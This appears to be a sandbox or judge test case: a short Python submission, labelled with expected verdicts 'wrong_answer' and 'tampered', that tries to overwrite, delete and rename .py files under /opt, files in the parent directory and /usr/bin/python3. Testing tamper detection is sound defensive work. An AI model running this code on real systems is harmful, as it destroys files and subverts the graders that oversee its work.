# It overwrites, removes and renames the programs and modules that run it.
#
# verdict = ["wrong_answer", "tampered"]
# tests = [["41\n", "42\n"], ["42\n", "43\n"]]

import glob, os

for path in glob.glob("/opt/**/*.py", recursive=True) + glob.glob("../*") + ["/usr/bin/python3"]:
    for act in (lambda p: open(p, "w").write("print(42)"), os.unlink, lambda p: os.rename(p, p + "x")):
        try:
            act(path)
        except OSError:
            pass
print("nothing")
